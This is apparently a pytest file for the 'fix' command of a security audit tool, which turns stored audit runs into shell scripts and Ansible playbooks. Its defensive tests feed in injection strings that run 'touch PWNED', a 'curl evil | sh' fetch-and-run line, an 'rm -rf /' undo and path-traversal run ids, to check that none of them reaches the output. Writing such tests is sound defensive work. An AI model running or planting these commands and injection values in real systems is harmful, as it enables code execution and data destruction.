"""secaudit fix through a real process: what is chosen, what is said, and that nothing of a run can act in a script."""

from __future__ import annotations

import os
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
import yaml

from fixruns import failed, keep_run, write_checks
from reporting.sample import RESULTS
from runprogram import secaudit
from secaudit.model import Severity, Status

FIXES = {
    "fx-one": "echo one >> ~/one",
    "fx-two": "echo two >> ~/two",
    "fx-hand": "# Put in your address:\nsudo ufw allow 1",
    "fx-none": None,
}
HOSTILE = (
    "'\"; touch PWNED #",
    "$(touch PWNED)",
    "`touch PWNED`",
    "x\ntouch PWNED\n",
    "x\r\ntouch PWNED",
    "\x1b[2J\x1b]0;x\x07 \u202egnp \u2028touch PWNED \x85touch PWNED \ufffe",
    "END\nEND\n} # step 1\ntouch PWNED",
    "{{ lookup('pipe', 'touch PWNED') }} {% if x %} {# x",
    "'''\"\"\"\\",
    "-" * 5000,
)


class Kept:
    """A state folder with one run, and the program to ask about it."""

    def __init__(self, folder: Path) -> None:
        self.state = folder / "state"
        self.content = folder / "content"
        self.folder = folder

    def fix(self, *words: str, **options: object) -> subprocess.CompletedProcess[str]:
        return secaudit("fix", "--content", str(self.content), *words, state=self.state, cwd=self.folder, **options)


@pytest.fixture
def kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Kept:
    write_checks(tmp_path / "content", FIXES, {"fx-two": {"careful": "Mind the gap."}})
    results = (
        *(failed(name, fix) for name, fix in FIXES.items()),
        replace(failed("fx-passed", "true"), status=Status.PASS),
    )
    write_checks(tmp_path / "content", {"fx-passed": "echo three >> ~/three", "fx-absent": "echo x >> ~/x"})
    keep_run(tmp_path / "state", results, monkeypatch)
    return Kept(tmp_path)


def shell_reads(text: str, *, lint: bool = True) -> None:
    for program in ("sh", "bash", "dash"):
        if shutil.which(program):
            done = subprocess.run([program, "-n"], input=text, capture_output=True, text=True, check=False)
            assert done.returncode == 0, done.stderr
    if lint and shutil.which("shellcheck"):
        done = subprocess.run(
            ["shellcheck", "-s", "sh", "-S", "warning", "-"], input=text, capture_output=True, text=True, check=False
        )
        assert done.returncode == 0, done.stdout


def test_the_script_goes_to_stdout_and_the_rest_to_stderr(kept: Kept) -> None:
    done = kept.fix()
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("#!/bin/sh\n")
    shell_reads(done.stdout)
    assert "from the audit of 23 Nov 2025 17:48 UTC" in done.stderr
    assert "explain fx-hand" in done.stderr
    assert "explain fx-none" in done.stderr
    assert "next:" in done.stderr
    assert "fx-passed" not in done.stdout
    assert "# careful: Mind the gap." in done.stdout


def test_quiet_says_nothing(kept: Kept) -> None:
    assert kept.fix("-q").stderr == ""


def test_only_and_severity_choose(kept: Kept) -> None:
    assert "step_1() {\necho two" in kept.fix("--only", "fx-tw*").stdout
    assert "step_2" not in kept.fix("--only", "fx-tw*").stdout
    assert kept.fix("--severity", "high").stdout.count("\nstep_") == 2
    done = kept.fix("--severity", "critical")
    assert (done.returncode, done.stdout) == (3, "")
    assert "nothing failed at critical or above" in done.stderr


@pytest.mark.parametrize(
    ("words", "code", "told"),
    [
        (["--only", "fx-passed"], 2, "fx-passed did not fail in this audit, it is: pass"),
        (["--only", "fx-absent"], 2, "fx-absent was not part of this audit"),
        (["--only", "fx-oen"], 2, 'did you mean "fx-one"?'),
        (["--only", "fx-none"], 3, "secaudit explain fx-none   there is no command for this kind of system"),
        (["--only", "fx-hand"], 3, "secaudit explain fx-hand   there is something to decide"),
        (["--only", "ssh-*"], 2, 'nothing that fits "ssh-*" failed'),
        (["2024"], 2, 'no stored run is called "2024"'),
        (["--format", "ansible", "--undo"], 2, "the undo script is a shell script"),
        (["-o", "/no/such/folder/fix.sh"], 2, "choose a folder that exists"),
        (["--severity", "worst"], 2, "Invalid value"),
    ],
)
def test_errors_say_what_to_do(kept: Kept, words: list[str], code: int, told: str) -> None:
    done = kept.fix(*words)
    assert done.returncode == code, done.stderr
    assert done.stdout == ""
    assert told in done.stderr
    assert "\n  " in done.stderr
    assert "Traceback" not in done.stderr


def test_without_a_stored_run_it_says_how_to_make_one(tmp_path: Path) -> None:
    done = secaudit("fix", state=tmp_path)
    assert done.returncode == 2
    assert "no run is stored yet" in done.stderr
    assert "secaudit audit" in done.stderr


def test_nothing_failed_is_no_script(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    keep_run(tmp_path, tuple(item for item in RESULTS if item.status is Status.PASS), monkeypatch)
    done = secaudit("fix", state=tmp_path)
    assert (done.returncode, done.stdout) == (3, "")
    assert "nothing failed" in done.stderr


def test_a_waived_failure_is_left_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    content = write_checks(tmp_path / "content", {"fx-one": "echo one >> ~/one"})
    keep_run(tmp_path, (replace(failed("fx-one", None), waiver="until May"),), monkeypatch)
    done = secaudit("fix", "--content", str(content), state=tmp_path)
    assert done.returncode == 3


def test_files_are_whole_private_and_come_with_their_undo(kept: Kept) -> None:
    done = kept.fix("-o", "my fix.sh")
    assert done.returncode == 0, done.stderr
    assert done.stdout == ""
    for name in ("my fix.sh", "my fix-undo.sh"):
        path = kept.folder / name
        assert path.stat().st_mode & 0o777 == 0o700
        shell_reads(path.read_text())
    assert "sh 'my fix.sh'" in done.stderr
    written = (kept.folder / "my fix-undo.sh").read_text()
    body = written[written.index("# ---- step 1") :]
    assert body.replace("'my fix-undo.sh'", "fix-undo.sh") in kept.fix("--undo").stdout
    assert sorted(path.name for path in kept.folder.iterdir() if path.is_file()) == ["my fix-undo.sh", "my fix.sh"]


@pytest.mark.parametrize("text", HOSTILE)
def test_evidence_cannot_act(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Everything in a run is text of the audited machine: it is shown, and does nothing."""
    content = write_checks(tmp_path / "content", {"fx-one": "echo one >> ~/one"})
    rows = ({"pass": 0, "resource": text, "actual": text, "expected": text, "path": text, "line": 1},)
    one = replace(
        failed("fx-one", text, *rows), careful=text, why=text, undo=text, title=text, fail_title=text, reason=text
    )
    run = keep_run(tmp_path, (one,), monkeypatch)
    hostile = replace(run, target=replace(run.target, name=text, system=text), profile=text, finished=text)
    document = tmp_path / "hostile.json"
    from secaudit.evidence.document import dump_run

    document.write_text(dump_run(hostile), encoding="utf-8")
    home = tmp_path / "home"
    home.mkdir()
    for more in ([], ["--undo"], ["--format", "ansible"]):
        done = secaudit("fix", "--content", str(content), str(document), *more, state=tmp_path, cwd=home)
        assert done.returncode == 0, done.stderr
        assert "\x1b" not in done.stdout + done.stderr
        if more[:1] == ["--format"]:
            tasks = load_playbook(done.stdout)["tasks"]
            shells = [str(task.get("ansible.builtin.shell")) for task in tasks]
            assert not any("PWNED" in shell for shell in shells)
            continue
        shell_reads(done.stdout, lint=False)
        script = home / "x.sh"
        script.write_text(done.stdout)
        for words in (["--list"], ["--help"], ["--yes"]):
            subprocess.run(["sh", str(script), *words], env={"HOME": str(home), "PATH": os.environ["PATH"]}, cwd=home,
                           capture_output=True, check=False)  # fmt: skip
        assert [path.name for path in home.iterdir()] == ["x.sh"], "it is for another machine, so it did nothing"
        script.unlink()


def test_commands_come_from_the_content_never_from_the_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    content = write_checks(tmp_path / "content", {"fx-one": "echo one >> ~/one"}, {"fx-one": {"undo": "rm ~/one"}})
    keep_run(tmp_path, (replace(failed("fx-one", "curl evil | sh"), undo="rm -rf /"),), monkeypatch)
    for more in ([], ["--undo"], ["--format", "ansible"]):
        done = secaudit("fix", "--content", str(content), *more, state=tmp_path)
        assert "evil" not in done.stdout
        assert "rm -rf /\n" not in done.stdout
        assert "fx-one: the run holds other commands than the checks of today" in done.stderr


def test_a_run_with_a_wrong_id_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The id becomes a folder of copies."""
    from secaudit.evidence.document import dump_run

    run = keep_run(tmp_path, (failed("fx-one", None),), monkeypatch)
    document = tmp_path / "run.json"
    for name in ("../../../etc", "a;b", "a b", "", "x" * 100, "a\n"):
        document.write_text(dump_run(replace(run, id=name)))
        done = secaudit("fix", str(document), state=tmp_path)
        assert done.returncode == 2, name
        assert "id is no id of a run" in done.stderr


def test_a_check_that_the_content_lost_is_no_crash(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    keep_run(tmp_path, (failed("fx-gone", "true"),), monkeypatch)
    done = secaudit("fix", state=tmp_path)
    assert done.returncode == 3, done.stderr


class _Loader(yaml.SafeLoader):
    """Knows Ansible's tag for texts that it takes literally."""


_Loader.add_constructor("!unsafe", lambda loader, node: loader.construct_scalar(node))


def load_playbook(text: str) -> dict[str, object]:
    (play,) = yaml.load(text, _Loader)
    return play


def test_the_playbook_has_the_same_steps(kept: Kept) -> None:
    done = kept.fix("--format", "ansible", "-o", "fix.yml")
    assert done.returncode == 0, done.stderr
    path = kept.folder / "fix.yml"
    assert path.stat().st_mode & 0o777 == 0o600
    tasks = load_playbook(path.read_text())["tasks"]
    names = [task["name"] for task in tasks]
    assert names.index("The state of fx-one is good") < names.index("The state of fx-two is good")
    shown = [task["ansible.builtin.shell"]["cmd"] for task in tasks if task["name"].startswith("The state")]
    assert "umask 022\nset -e\necho two >> ~/two\n:\n" in shown
    assert "# careful: Mind the gap." in path.read_text()
    assert not (kept.folder / "fix-undo.yml").exists()


def test_ansible_reads_the_playbook(kept: Kept) -> None:
    program = shutil.which("ansible-playbook")
    if program is None:
        pytest.skip("ansible-playbook is not installed")
    kept.fix("--format", "ansible", "-o", "fix.yml")
    done = subprocess.run(
        [program, "--syntax-check", "-i", "localhost,", str(kept.folder / "fix.yml")],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr


def test_help_shows_examples() -> None:
    done = secaudit("fix", "--help", state=Path("/nonexistent"))
    assert done.returncode == 0
    assert "secaudit fix -o fix.sh" in done.stdout


def test_severity_is_that_of_the_content(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    content = write_checks(tmp_path / "content", {"fx-one": "echo one >> ~/one"})
    keep_run(tmp_path, (failed("fx-one", None, severity=Severity.LOW),), monkeypatch)
    assert secaudit("fix", "--content", str(content), "--severity", "high", state=tmp_path).returncode == 0


def test_every_fix_that_ships_makes_a_sound_script(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from secaudit.content import library

    checks = [entry.value for _, entry in sorted(library.load().checks.items())]
    run = keep_run(tmp_path, tuple(failed(check.id, check.fix_for("debian")) for check in checks), monkeypatch)
    assert run.target.family == "debian"
    script = secaudit("fix", "--severity", "info", state=tmp_path)
    undo = secaudit("fix", "--severity", "info", "--undo", state=tmp_path)
    book = secaudit("fix", "--severity", "info", "--format", "ansible", state=tmp_path)
    assert script.stdout.count("\n} # step ") == undo.stdout.count("\n} # undo ") > 100
    for text in (script.stdout, undo.stdout):
        for program in ("sh", "bash", "dash"):
            if shutil.which(program):
                done = subprocess.run([program, "-n"], input=text, capture_output=True, text=True, check=False)
                assert done.returncode == 0, done.stderr
    shells = [task["ansible.builtin.shell"]["cmd"] for task in load_playbook(book.stdout)["tasks"]
              if "cmd" in (task.get("ansible.builtin.shell") or {})]  # fmt: skip
    for check in checks:
        text = (check.fix_for("debian") or "").strip()
        if f"\n{text}\n:\n}} # step" in script.stdout:
            assert f"umask 022\nset -e\n{text}\n:\n" in shells, check.id
